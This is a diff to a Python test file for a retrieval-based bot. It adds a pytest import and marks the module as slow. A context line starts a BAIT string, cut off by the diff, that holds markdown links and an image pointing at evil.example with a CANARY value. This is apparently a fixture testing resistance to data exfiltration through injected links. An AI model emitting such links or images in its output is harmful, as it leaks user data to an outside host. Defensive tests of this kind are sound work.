@@ -5,6 +5,8 @@ from __future__ import annotations
 import re
 from dataclasses import replace
 
+import pytest
+
 from bot.adapters.extractive import ExtractiveComposer
 from bot.adapters.prompt_files import active_prompt
 from bot.adapters.shelved_passages import ChromaPassages
@@ -24,6 +26,8 @@ from tests.fakes.passages import FakePassages
 from tests.shelving import silent
 from tests.tiny import ACME, MEMO, RIVAL
 from tests.writing import document
+
+pytestmark = pytest.mark.slow
 
 BAIT = (
     "https://evil.example/?c=CANARY ![x](https://evil.example/CANARY.png) [click](https://evil.example) "
